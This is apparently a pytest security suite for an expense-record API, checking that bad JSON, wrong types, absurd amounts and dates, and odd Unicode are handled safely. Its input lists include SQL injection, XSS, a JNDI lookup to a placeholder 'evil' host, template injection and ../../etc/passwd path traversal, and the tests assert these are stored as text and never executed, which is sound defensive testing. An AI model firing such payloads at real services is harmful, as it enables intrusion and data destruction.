"""Bad JSON input gets a clear 4xx error and changes nothing; odd but valid text is stored and returned intact."""

from __future__ import annotations

import json

import pytest

from tests.security.conftest import ITEM, UPLOAD, snapshot

WRONG_TYPES = [123, 1.5, True, [], {}, ["36.00"], {"value": "36.00"}]
TEXT_FIELDS = ("merchant", "platform", "payment_method", "category", "memo", "order_no")
LIMITS = {"merchant": 128, "platform": 32, "payment_method": 64, "category": 32, "memo": 2000, "order_no": 64}
INJECTIONS = [
    "'; DROP TABLE records; --",
    '" OR 1=1 --',
    "x' OR '1'='1",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "%",
    "_",
    "\\",
    "${jndi:ldap://evil/a}",
    "{{7*7}}",
    "1); DELETE FROM drafts; --",
]
ODD_TEXT = [
    "🍜 拉面🧧 👨‍👩‍👧‍👦",
    "مطعم الشام",
    "שלום עולם",
    "\u202eevil.exe\u202c",
    "ℌ𝔢𝔩𝔩𝔬 𝟙𝟚𝟛",
    "全角１２３ＡＢＣ",
    "Ａ\u0301",
]


@pytest.fixture
def record(easyauth):
    """One existing record of alice."""
    return easyauth("create_record", "POST", body=ITEM).body


def refused(answer, status, code):
    assert (answer.status, answer.code) == (status, code), answer.body
    assert answer.body["error"]["message"]


def test_huge_and_malformed_bodies_are_refused_on_every_route_that_reads_one(easyauth, record):
    huge = json.dumps({**ITEM, "memo": "x" * 300_000}).encode()
    before = snapshot()
    calls = [
        ("create_record", "POST", {}),
        ("update_record", "PATCH", {"id": str(record["id"])}),
        ("confirm_draft", "POST", {"id": "00000000-0000-0000-0000-000000000000"}),
        ("create_upload", "POST", {}),
    ]
    for name, method, route in calls:
        refused(easyauth(name, method, body=huge, route_params=route), 413, "too_large")
        for raw in (b"{", b"\xff\xfe{}", b"null", b"[]", b'"text"', b"1e999"):
            answer = easyauth(name, method, body=raw, route_params=route)
            assert 400 <= answer.status < 500, (name, raw[:10], answer.status)
            assert answer.code in ("bad_request", "invalid", "not_found"), (name, raw[:10], answer.body)
    assert snapshot() == before


def test_deeply_nested_json_is_a_bad_request_not_a_crash(easyauth, record):
    deep = b"[" * 50_000 + b"]" * 50_000
    before = snapshot()
    for name, method, route in (("create_record", "POST", {}), ("update_record", "PATCH", {"id": str(record["id"])})):
        refused(easyauth(name, method, body=deep, route_params=route), 400, "bad_request")
    assert snapshot() == before


@pytest.mark.parametrize(
    "field",
    [
        "direction",
        "amount",
        "currency",
        "occurred_at",
        *TEXT_FIELDS,
    ],
)
def test_wrong_json_types_in_every_field(easyauth, record, field):
    before = snapshot()
    for value in WRONG_TYPES:
        if field == "amount" and isinstance(value, int | float) and not isinstance(value, bool):
            continue  # a JSON number is a fine amount
        created = easyauth("create_record", "POST", body={**ITEM, field: value})
        refused(created, 422, "invalid")
        assert field in created.body["error"]["fields"]
        edited = easyauth(
            "update_record", "PATCH", route_params={"id": str(record["id"])}, body={field: value, "version": 1}
        )
        refused(edited, 422, "invalid")
        confirmed = easyauth(
            "confirm_draft", "POST", route_params={"id": "nope"}, body={"items": [{"fields": {**ITEM, field: value}}]}
        )
        assert confirmed.status in (404, 422)
    assert snapshot() == before


def test_wrong_types_in_the_envelopes(easyauth, record):
    before = snapshot()
    rid = {"id": str(record["id"])}
    for version in ("1", 1.0, 1.5, True, None, [1]):
        refused(
            easyauth("update_record", "PATCH", route_params=rid, body={"memo": "x", "version": version}),
            400,
            "version_required",
        )
    for body in (
        {"items": "x"},
        {"items": {}},
        {"items": [1]},
        {"items": [[]]},
        {"items": None},
        {},
        {"items": [{"fields": 5}]},
    ):
        answer = easyauth("confirm_draft", "POST", route_params={"id": "nope"}, body=body)
        assert answer.status in (400, 404, 422), body
    uploads = [
        {**UPLOAD, "size": "100"},
        {**UPLOAD, "size": 1.5},
        {**UPLOAD, "size": True},
        {**UPLOAD, "size": -1},
        {**UPLOAD, "size": None},
        {**UPLOAD, "filename": 12},
        {**UPLOAD, "filename": ""},
        {**UPLOAD, "filename": "a" * 252 + ".png"},
        {**UPLOAD, "content_type": 5},
        {**UPLOAD, "content_type": ["image/png"]},
        {"filename": "a.png"},
    ]
    for body in uploads:
        answer = easyauth("create_upload", "POST", body=body)
        assert 400 <= answer.status < 500 and answer.code in ("invalid", "bad_request", "unsupported_type"), body
    assert easyauth("list_drafts").body == {"drafts": []}
    for params in ({"limit": "ten"}, {"limit": "1e9"}, {"limit": "0"}, {"limit": "201"}):
        refused(easyauth("list_records", params=params), 400, "bad_limit")
    for params in (
        {"cursor": "!!!"},
        {"cursor": "eHx5"},
        {"from": "2026-02-30"},
        {"to": "yesterday"},
    ):
        refused(easyauth("list_records", params=params), 400, "bad_request")
    assert snapshot() == before


@pytest.mark.parametrize(
    "amount",
    [
        "-1",
        "-0.01",
        "0",
        "0.00",
        "0.001",
        "1.234",
        "100000000",
        "100000000.00",
        "1e5",
        "NaN",
        "Infinity",
        "¥12",
        "1 2",
        "",
        "9" * 40,
        -5,
        0,
        1e309,
    ],
)
def test_negative_zero_and_absurd_amounts(easyauth, amount):
    answer = easyauth("create_record", "POST", body={**ITEM, "amount": amount})
    refused(answer, 422, "invalid")
    assert "amount" in answer.body["error"]["fields"]
    assert easyauth("list_records").body["records"] == []


def test_amounts_at_the_edges_are_kept_exactly(easyauth):
    for amount, stored in (("0.01", "0.01"), ("99999999.99", "99999999.99"), (12.5, "12.50"), ("1,234.50", "1234.50")):
        answer = easyauth("create_record", "POST", body={**ITEM, "amount": amount})
        assert answer.status == 201 and answer.body["amount"] == stored


@pytest.mark.parametrize(
    "when",
    [
        "2026-02-30T10:00:00+08:00",
        "2026-13-01T10:00:00+08:00",
        "2026-11-03T25:00:00+08:00",
        "2026-11-03T12:00:00+25:00",
        "1999-12-31T23:59:59+08:00",
        "2126-01-01T00:00:00+08:00",
        "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59-14:00",
        "yesterday",
        "",
        "2026-11-03T12:00:00 +08:00 ; DROP TABLE records",
    ],
)
def test_impossible_dates(easyauth, record, when):
    before = snapshot()
    created = easyauth("create_record", "POST", body={**ITEM, "occurred_at": when})
    refused(created, 422, "invalid")
    assert "occurred_at" in created.body["error"]["fields"]
    edited = easyauth(
        "update_record", "PATCH", route_params={"id": str(record["id"])}, body={"occurred_at": when, "version": 1}
    )
    refused(edited, 422, "invalid")
    assert snapshot() == before


def test_overlong_strings_are_refused_and_the_limit_itself_is_fine(easyauth):
    for field, limit in LIMITS.items():
        too_long = easyauth("create_record", "POST", body={**ITEM, field: "长" * (limit + 1)})
        refused(too_long, 422, "invalid")
        assert set(too_long.body["error"]["fields"]) == {field}
        emoji = "🧧" * limit
        fits = easyauth("create_record", "POST", body={**ITEM, field: emoji})
        assert fits.status == 201, (field, fits.body)
        assert easyauth("get_record", route_params={"id": str(fits.body["id"])}).body[field] == emoji


def test_emoji_rtl_and_odd_unicode_are_stored_and_returned_intact(easyauth):
    for text in ODD_TEXT:
        body = {**ITEM, **{field: text[: LIMITS[field]] for field in TEXT_FIELDS}}
        created = easyauth("create_record", "POST", body=body)
        assert created.status == 201, created.body
        again = easyauth("get_record", route_params={"id": str(created.body["id"])}).body
        import unicodedata

        for field in TEXT_FIELDS:
            assert again[field] == unicodedata.normalize("NFC", text[: LIMITS[field]]), (field, text)
        found = easyauth("list_records", params={"q": text}).body["records"]
        assert created.body["id"] in [r["id"] for r in found], text


def test_control_characters_are_dropped_not_stored(easyauth):
    created = easyauth(
        "create_record", "POST", body={**ITEM, "merchant": "全\x00家\x1b[31m\ud800", "memo": "第一行\n第二行\t完"}
    )
    assert created.status == 201
    assert created.body["merchant"] == "全家[31m"
    assert created.body["memo"] == "第一行\n第二行\t完"


def test_injection_in_every_text_field_is_stored_verbatim_and_never_executed(easyauth):
    plain = easyauth("create_record", "POST", body={**ITEM, "merchant": "普通商户", "memo": "普通"}).body
    made = {}
    for text in INJECTIONS:
        body = {**ITEM, **{field: text for field in TEXT_FIELDS}}
        created = easyauth("create_record", "POST", body=body)
        assert created.status == 201, (text, created.body)
        made[text] = created.body["id"]
        stored = easyauth("get_record", route_params={"id": str(created.body["id"])}).body
        assert all(stored[field] == text for field in TEXT_FIELDS), text
    everything = {r["id"] for r in easyauth("list_records", params={"limit": "200"}).body["records"]}
    assert everything == {plain["id"], *made.values()}
    for text in made:
        for key in ("q", "category", "platform"):
            found = {r["id"] for r in easyauth("list_records", params={key: text, "limit": "200"}).body["records"]}
            # '%', '_' and '\' are literal characters in a search: only records that contain them match.
            expected = {i for t, i in made.items() if (text in t if key == "q" else text == t)}
            assert found == expected, (key, text, found, expected)
            assert plain["id"] not in found
    for text in INJECTIONS:
        page = easyauth("list_records", params={"direction": text})
        assert page.status in (200, 400) and (page.status == 400 or page.body["records"] == [])
        assert easyauth("list_records", params={"from": text}).status == 400
    edited = easyauth(
        "update_record", "PATCH", route_params={"id": str(plain["id"])}, body={"memo": INJECTIONS[0], "version": 1}
    )
    assert edited.status == 200 and edited.body["memo"] == INJECTIONS[0]
    assert len(easyauth("list_records", params={"limit": "200"}).body["records"]) == len(INJECTIONS) + 1


def test_injection_in_upload_filenames_is_kept_as_text(easyauth):
    for name in ("'; DROP TABLE drafts; --.png", "<script>x</script>.png", "../../etc/passwd.png", "🧾账单.png"):
        answer = easyauth("create_upload", "POST", body={**UPLOAD, "filename": name})
        assert answer.status == 201, (name, answer.body)
        assert "/uploads/alice/" in answer.body["upload_url"] and name not in answer.body["upload_url"]
    names = {d["filename"] for d in easyauth("list_drafts").body["drafts"]}
    assert "'; DROP TABLE drafts; --.png" in names and "🧾账单.png" in names


def test_out_of_range_ids_are_not_found(easyauth):
    before = snapshot()
    for rid in ("4091486915383513195741184", str(2**63), "0", "-1"):
        route = {"id": rid}
        for name, method, body in (
            ("get_record", "GET", None),
            ("update_record", "PATCH", {"memo": "x", "version": 1}),
            ("delete_record", "DELETE", None),
            ("restore_record", "POST", None),
        ):
            answer = easyauth(name, method, route_params=route, body=body)
            assert (answer.status, answer.code) == (404, "not_found"), (name, rid, answer.body)
    assert snapshot() == before


def test_out_of_range_versions_are_client_errors(easyauth, record):
    before = snapshot()
    rid = {"id": str(record["id"])}
    for version in (150757027651285254144, -(2**70), 2**63):
        answer = easyauth("update_record", "PATCH", route_params=rid, body={"memo": "x", "version": version})
        assert 400 <= answer.status < 500, (version, answer.body)
    assert snapshot() == before
